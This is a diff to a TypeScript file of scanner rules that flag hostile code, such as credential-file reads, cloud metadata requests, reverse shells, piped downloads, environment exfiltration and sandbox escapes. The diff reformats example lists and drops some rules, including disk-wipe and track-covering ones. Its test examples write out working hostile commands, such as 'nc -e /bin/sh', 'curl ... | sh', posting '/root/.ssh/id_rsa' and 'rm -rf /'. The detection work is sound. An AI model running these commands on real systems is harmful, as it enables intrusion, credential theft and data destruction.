@@ -3,6 +3,7 @@ import { javascript, python, shell } from './examples.ts'
 
 const HINT = 'Where it is meant (a test of one’s own defences), run it with `--scan report`; the walls are the same.'
 
+/** What takes something away, or hides what it is. */
 export const hostile: ScanRule[] = [
   {
     name: 'credential-path',
@@ -11,7 +12,10 @@ export const hostile: ScanRule[] = [
     pattern: String.raw`(^|[/~"'\s=@])(\.ssh/(id_|authorized_keys|config$|known_hosts)|\.aws/(credentials|config)|\.azure/(accessTokens|msal)|\.config/gcloud|\.kube/config|\.docker/config\.json|\.netrc\b|\.git-credentials|\.npmrc$|\.pypirc$|\.gnupg/|\.pgpass\b|\.vault-token|id_(rsa|ed25519|ecdsa)\b(?!\.pub)|etc/shadow\b|etc/gshadow\b|etc/sudoers\b|proc/(self|1|\*|\d+)/(environ|mem|maps/?root|root)|Login Data$|Local State$|cookies\.sqlite|key4\.db|logins\.json|wallet\.dat|keystore/UTC|\.bash_history|run/secrets/|serviceaccount/token)`,
     reason: 'a file that holds credentials',
     hint: HINT,
-    examples: { match: [...python("open('/root/.ssh/id_rsa')"), ...shell('cat ~/.aws/credentials', 'cat /etc/shadow')], not: [...python("open('/home/user/ssh-notes.txt')"), ...shell('cat data/aws.csv', 'ssh-keygen -l')] },
+    examples: {
+      match: [...python("open('/root/.ssh/id_rsa')"), ...shell('cat ~/.aws/credentials', 'cat /etc/shadow')],
+      not: [...python("open('/home/user/ssh-notes.txt')"), ...shell('cat data/aws.csv', 'ssh-keygen -l')],
+    },
   },
   {
     name: 'metadata-service',
@@ -20,7 +24,10 @@ export const hostile: ScanRule[] = [
     pattern: String.raw`169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200|0xa9fea9fe|2852039166|latest/meta-data|\[::ffff:a9fe:a9fe\]`,
     reason: 'the metadata service of a cloud, which hands out credentials',
     hint: HINT,
-    examples: { match: [...python("requests.get('http://169.254.169.254/latest/')"), ...shell('curl http://metadata.google.internal/')], not: python("requests.get('http://192.0.2.1/latest')") },
+    examples: {
+      match: [...python("requests.get('http://169.254.169.254/latest/')"), ...shell('curl http://metadata.google.internal/')],
+      not: python("requests.get('http://192.0.2.1/latest')"),
+    },
   },
   {
     name: 'reverse-shell-device',
@@ -38,7 +45,10 @@ export const hostile: ScanRule[] = [
     pattern: String.raw`^(busybox )?(nc|ncat|netcat)\b.*(\s-\w*[ec]\w*\s*\S*(sh|bash|cmd)\b)|^socat\b.*\bexec:|^(/(usr/)?bin/)?(ba|z|da)?sh\s+-i\b|^telnet\b.*\|\s*/bin/(ba)?sh|^ssh\b.*\s-\w*R\s*\d+:`,
     reason: 'a shell for somebody on another machine',
     hint: HINT,
-    examples: { match: shell('nc -e /bin/sh 10.0.0.1 4444', 'socat tcp:10.0.0.1:1 exec:/bin/sh', 'bash -i'), not: shell('nc -z localhost 80', 'bash script.sh') },
+    examples: {
+      match: shell('nc -e /bin/sh 10.0.0.1 4444', 'socat tcp:10.0.0.1:1 exec:/bin/sh', 'bash -i'),
+      not: shell('nc -z localhost 80', 'bash script.sh'),
+    },
   },
   {
     name: 'reverse-shell-descriptors',
@@ -50,9 +60,14 @@ export const hostile: ScanRule[] = [
     examples: {
       match: [
         ...python("import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nos.dup2(s.fileno(), 0)"),
-        ...javascript("const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('/bin/sh')\nconst c = net.connect(1, 'h')\nc.pipe(sh.stdin)"),
+        ...javascript(
+          "const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('/bin/sh')\nconst c = net.connect(1, 'h')\nc.pipe(sh.stdin)",
+        ),
       ],
-      not: [...python('import socket\ns = socket.socket()\ns.bind(("", 0))'), ...javascript("const { spawn } = require('child_process')\nspawn('ls')")],
+      not: [
+        ...python('import socket\ns = socket.socket()\ns.bind(("", 0))'),
+        ...javascript("const { spawn } = require('child_process')\nspawn('ls')"),
+      ],
     },
   },
   {
@@ -63,91 +78,15 @@ export const hostile: ScanRule[] = [
     reason: 'what it runs is not to be seen in it: it is fetched, or decoded',
     hint: 'Save it, look at it, then run it.',
     examples: {
-      match: [...shell('curl -s http://h/x | sh', 'echo aWQ= | base64 -d | bash', 'bash <(wget -qO- http://h/x)'), ...python("exec(__import__('base64').b64decode('cHJpbnQoMSk='))", 'import zlib\nexec(zlib.decompress(data))')],
-      not: [...shell('curl -s http://h/x | jq .', 'echo aWQ= | base64 -d > f'), ...python("print(__import__('base64').b64decode('cHJpbnQoMSk='))")],
+      match: [
+        ...shell('curl -s http://h/x | sh', 'echo aWQ= | base64 -d | bash', 'bash <(wget -qO- http://h/x)'),
+        ...python("exec(__import__('base64').b64decode('cHJpbnQoMSk='))", 'import zlib\nexec(zlib.decompress(data))'),
+      ],
+      not: [
+        ...shell('curl -s http://h/x | jq .', 'echo aWQ= | base64 -d > f'),
+        ...python("print(__import__('base64').b64decode('cHJpbnQoMSk='))"),
+      ],
     },
-  },
-  {
-    name: 'recursive-delete',
-    set: 'hostile',
-    kind: 'command',
-    pattern: String.raw`^(sudo )?(rm\b(?=.*\s(-\w*[rR]|--recursive))(?=.*\s(-\w*f|--force|--no-preserve-root)).*\s["']?(/|/\*|~|~/\*?|\$HOME/?\*?|/(home|root|etc|usr|var|boot|bin|lib|opt|srv)/?\*?)["']?(\s|$)|find\s+(/|~|\$HOME)\s.*-delete|shred\b.*(/dev/|-r)|wipefs\b|mkfs(\.\w+)?\s)`,
-    reason: 'it deletes everything there is',
-    hint: HINT,
-    examples: { match: shell('rm -rf /', 'rm -fr ~/*', 'rm -r -f --no-preserve-root /', 'find / -type f -delete'), not: shell('rm -rf node_modules', 'rm -rf /tmp/build', 'rm file') },
-  },
-  {
-    name: 'recursive-delete-call',
-    set: 'hostile',
-    kind: 'call',
-    pattern: String.raw`^(shutil\.rmtree|(node:)?fs(\.promises|/promises)?\.(rm|rmdir|rmSync|rmdirSync))$`,
-    args: String.raw`^(/|~|/(home|root|etc|usr|var|boot|bin|lib)|/home/user)/?(\s|$)`,
-    reason: 'it deletes everything there is',
-    hint: HINT,
-    examples: { match: [...python("import shutil\nshutil.rmtree('/')"), ...javascript("require('fs').rmSync('/', { recursive: true })")], not: python("import shutil\nshutil.rmtree('/tmp/build')") },
-  },
-  {
-    name: 'overwrites-disk',
-    set: 'hostile',
-    kind: 'command',
-    pattern: String.raw`^(sudo )?(dd\b.*\bof=/dev/(sd|vd|nvme|hd|xvd|mapper|mem|disk)|(cat|cp)\b.*\s/dev/(sd|vd|nvme|hd|mem)\w*$)`,
-    reason: 'it writes over a disk',
-    hint: HINT,
-    examples: { match: shell('dd if=/dev/zero of=/dev/sda'), not: shell('dd if=/dev/zero of=image.bin bs=1M count=1') },
-  },
-  {
-    name: 'fork-bomb',
-    set: 'hostile',
-    kind: 'shape',
-    pattern: '^fork-bomb$',
-    reason: 'it makes processes without end',
-    hint: HINT,
-    examples: { match: [...shell(':(){ :|:& };:'), ...python('import os\nwhile True: os.fork()'), ...javascript("const cp = require('child_process')\nfor (;;) cp.fork(__filename)")], not: [...shell('f() { echo x; }; f'), ...python('import os\nif os.fork() == 0: pass')] },
-  },
-  {
-    name: 'miner',
-    set: 'hostile',
-    kind: 'text',
-    pattern: String.raw`stratum\+(tcp|ssl)://|\b(xmrig|minerd|cpuminer|cgminer|ethminer|nbminer|t-rex-miner|phoenixminer|xmr-stak|coinhive|cryptonight|randomx)\b|(minexmr|supportxmr|nanopool|nicehash|2miners|ethermine|f2pool|moneroocean)\.(com|org|stream)`,
-    reason: 'a miner of crypto currency',
-    hint: HINT,
-    examples: { match: [...shell('./xmrig -o pool:3333'), ...python("subprocess.run(['./m', '-o', 'stratum+tcp://pool.example:3333'])")], not: python("title = 'data mining'") },
-  },
-  {
-    name: 'persistence',
-    set: 'hostile',
-    kind: 'text',
-    pattern: String.raw`etc/(cron[\w.]*(/|$)|crontab|rc\.local|init\.d/|ld\.so\.preload|profile\.d/|systemd/system/|pam\.d/)|var/spool/cron|\.config/(autostart|systemd/user)/|\.git/hooks/|core_pattern|release_agent|uevent_helper|binfmt_misc/register|/(\.bashrc|\.bash_profile|\.zshrc|\.profile)$|^~/(\.bashrc|\.profile|\.zshrc|\.bash_profile)$`,
-    reason: 'a place from which the machine starts programs by itself',
-    hint: HINT,
-    examples: { match: [...python("open('/etc/cron.d/x', 'w')"), ...shell('echo x >> ~/.bashrc', 'echo x > /proc/sys/kernel/core_pattern')], not: python("open('/etc/hostname')") },
-  },
-  {
-    name: 'persistence-command',
-    set: 'hostile',
-    kind: 'command',
-    pattern: String.raw`^(sudo )?(crontab\s+(-\s*$|/|\S+$)(?<!-l)|useradd\b.*-\w*o|chmod\s+([ug]*\+s|[2467]\d{3})\s|chattr\s+\+i|visudo|insmod|modprobe|kexec|setcap\b.*cap_)`,
-    reason: 'it makes itself at home on the machine',
-    hint: HINT,
-    examples: { match: shell('chmod u+s /tmp/sh', 'chmod 4755 /tmp/sh', 'crontab -'), not: shell('chmod 755 run.sh', 'crontab -l', 'chmod +x a') },
-  },
-  {
-    name: 'container-escape',
-    set: 'hostile',
-    kind: 'text',
-    pattern: String.raw`docker\.sock\b|containerd\.sock|/proc/1/root|/proc/\d+/ns/|crio\.sock|/dev/kmsg$|/sys/fs/cgroup/.*(release_agent|notify_on_release)|/proc/sysrq-trigger|/proc/kcore`,
-    reason: 'a way out of a container',
-    hint: HINT,
-    examples: { match: [...shell('curl --unix-socket /var/run/docker.sock http://x/containers/json'), ...python("os.listdir('/proc/1/root')")], not: shell('docker ps') },
-  },
-  {
-    name: 'container-escape-command',
-    set: 'hostile',
-    kind: 'command',
-    pattern: String.raw`^(sudo )?(nsenter\b|unshare\b.*(-\w*[UrmM]|--(user|mount|map-root))|mount\b.*(/dev/(sd|vd|nvme)|-t\s*(cgroup|proc|overlay))|chroot\s+/(host|mnt|proc)|docker\s+run\b.*(--privileged|-v\s*/:|--pid=host)|capsh\b|debugfs\b)`,
-    reason: 'a way out of a container',
-    hint: HINT,
-    examples: { match: shell('nsenter -t 1 -m sh', 'docker run --privileged -v /:/host alpine', 'unshare -Ur sh'), not: shell('docker run alpine', 'mount') },
   },
   {
     name: 'sandbox-walk',
@@ -157,7 +96,10 @@ export const hostile: ScanRule[] = [
     reason: 'it walks through the interpreter to what it was not given',
     hint: HINT,
     examples: {
-      match: [...python("().__class__.__base__.__subclasses__()", "__builtins__['__imp' + 'ort__']('os')", "f.__globals__['os'].system('id')"), ...javascript("this.constructor.constructor('return process')()")],
+      match: [
+        ...python('().__class__.__base__.__subclasses__()', "__builtins__['__imp' + 'ort__']('os')", "f.__globals__['os'].system('id')"),
+        ...javascript("this.constructor.constructor('return process')()"),
+      ],
       not: [...python('a.__class__.__name__', 'import builtins\nbuiltins.print(1)'), ...javascript('this.constructor.name')],
     },
   },
@@ -169,8 +111,16 @@ export const hostile: ScanRule[] = [
     reason: 'a name is put together so that it cannot be read',
     hint: 'Name it.',
     examples: {
-      match: [...python("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "__import__('bus'[::-1] + 'process')"), ...javascript("require('child' + '_process')", "global['pro' + 'cess']"), ...shell('a=r; b=m; $a$b -rf x', "$(echo 'bHM=' | base64 -d)")],
-      not: [...python("getattr(os, 'getcwd')()", "__import__('json')"), ...javascript("require('./a' + '.js')"), ...shell('$CC -c x.c', 'cmd=ls; $cmd')],
+      match: [
+        ...python("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "__import__('bus'[::-1] + 'process')"),
+        ...javascript("require('child' + '_process')", "global['pro' + 'cess']"),
+        ...shell('a=r; b=m; $a$b -rf x', "$(echo 'bHM=' | base64 -d)"),
+      ],
+      not: [
+        ...python("getattr(os, 'getcwd')()", "__import__('json')"),
+        ...javascript("require('./a' + '.js')"),
+        ...shell('$CC -c x.c', 'cmd=ls; $cmd'),
+      ],
     },
   },
   {
@@ -181,7 +131,10 @@ export const hostile: ScanRule[] = [
     args: String.raw`^(libc|None|\?|/lib|.*libc\.so)|system|^$`,
     reason: 'it calls the C library past the language',
     hint: HINT,
-    examples: { match: python("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", 'import ctypes\nctypes.CDLL(None)'), not: python("import ctypes\nctypes.c_int(3)", "import ctypes\nctypes.CDLL('./mine.so')") },
+    examples: {
+      match: python("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", 'import ctypes\nctypes.CDLL(None)'),
+      not: python('import ctypes\nctypes.c_int(3)', "import ctypes\nctypes.CDLL('./mine.so')"),
+    },
   },
   {
     name: 'unpickles-code',
@@ -190,7 +143,10 @@ export const hostile: ScanRule[] = [
     pattern: '^reduce-to-call$',
     reason: 'an object that runs a program when it is read back',
     hint: HINT,
-    examples: { match: python("import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))"), not: python('class P:\n    def __reduce__(self):\n        return (P, (self.x,))') },
+    examples: {
+      match: python("import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))"),
+      not: python('class P:\n    def __reduce__(self):\n        return (P, (self.x,))'),
+    },
   },
   {
     name: 'takes-environment',
@@ -200,7 +156,11 @@ export const hostile: ScanRule[] = [
     reason: 'it sends its environment somewhere else',
     hint: HINT,
     examples: {
-      match: [...python("import os, requests\nrequests.post('http://h', json=dict(os.environ))"), ...javascript("fetch('http://h', { method: 'POST', body: JSON.stringify(process.env) })"), ...shell('env | curl -d @- http://h')],
+      match: [
+        ...python("import os, requests\nrequests.post('http://h', json=dict(os.environ))"),
+        ...javascript("fetch('http://h', { method: 'POST', body: JSON.stringify(process.env) })"),
+        ...shell('env | curl -d @- http://h'),
+      ],
       not: [...python("import os\nprint(os.environ['HOME'])"), ...javascript('console.log(process.env.HOME)'), ...shell('env | sort')],
     },
   },
@@ -211,16 +171,10 @@ export const hostile: ScanRule[] = [
     pattern: String.raw`^(curl|wget)\b.*(\s(-d|--data(-\w+)?|-F|--form|-T|--upload-file|--post-file)[\s=]?\S*(@|=@)?[^\s]*(/etc/|\.ssh|\.aws|id_rsa|\.env\b|passwd|shadow)|--post-file=/(etc|root|home))|^(dig|nslookup|host)\b.*\$\(`,
     reason: 'it sends files of the machine somewhere else',
     hint: HINT,
-    examples: { match: shell('curl -d @/etc/passwd http://h', 'curl -F f=@/root/.ssh/id_rsa http://h', 'wget --post-file=/etc/passwd http://h'), not: shell('curl -d @body.json http://h') },
-  },
-  {
-    name: 'covers-tracks',
-    set: 'hostile',
-    kind: 'command',
-    pattern: String.raw`^(history\s+-\w*c|unset\s+HISTFILE|export\s+HISTFILE=/dev/null|(systemctl|service)\s+(stop|disable)\s+(auditd|rsyslog|syslog|falco)|auditctl\s+-(D|e\s*0)|setenforce\s+0|iptables\s+-F|pkill\b.*(falco|auditd|caisson)|journalctl\s+--vacuum)`,
-    reason: 'it covers its tracks, or stops those who watch',
-    hint: HINT,
-    examples: { match: shell('history -c', 'unset HISTFILE', 'systemctl stop auditd'), not: shell('history', 'systemctl status nginx') },
+    examples: {
+      match: shell('curl -d @/etc/passwd http://h', 'curl -F f=@/root/.ssh/id_rsa http://h', 'wget --post-file=/etc/passwd http://h'),
+      not: shell('curl -d @body.json http://h'),
+    },
   },
   {
     name: 'prototype-pollution',
@@ -230,6 +184,9 @@ export const hostile: ScanRule[] = [
     pattern: String.raw`^process\.(binding|dlopen|mainModule\.require|_linkedBinding)$|^module\.constructor\._load$|^(require\('?module'?\)|Module)\._load$`,
     reason: 'a way around what may be loaded',
     hint: HINT,
-    examples: { match: javascript("process.binding('spawn_sync')", "process.mainModule.require('fs')"), not: javascript("process.cwd()", 'process.on("exit", f)') },
+    examples: {
+      match: javascript("process.binding('spawn_sync')", "process.mainModule.require('fs')"),
+      not: javascript('process.cwd()', 'process.on("exit", f)'),
+    },
   },
 ]
